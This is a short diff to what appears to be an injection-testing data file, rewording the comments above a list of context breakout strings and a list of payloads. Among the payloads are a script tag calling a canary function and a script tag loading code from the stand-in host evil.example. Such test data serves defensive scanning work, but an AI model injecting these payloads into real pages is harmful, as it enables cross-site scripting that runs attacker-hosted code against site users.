@@ -1,4 +1,4 @@
-/** Where a value may stand in a page, and what would break it out of there. */
+/** Contexts of a value in a page, and the text that would break out of each. */
 const breakouts = [
   '',
   '"',
@@ -14,7 +14,7 @@ const breakouts = [
   ']]>',
 ]
 
-/** What would run, fetch or move somebody once it is out. The canary is a call or a host that nobody else uses. */
+/** Payloads that would run, fetch or redirect after the breakout. The canary is a unique call or host. */
 const payloads = [
   '<script>canary()</script>',
   '<script src=//evil.example/x.js></script>',
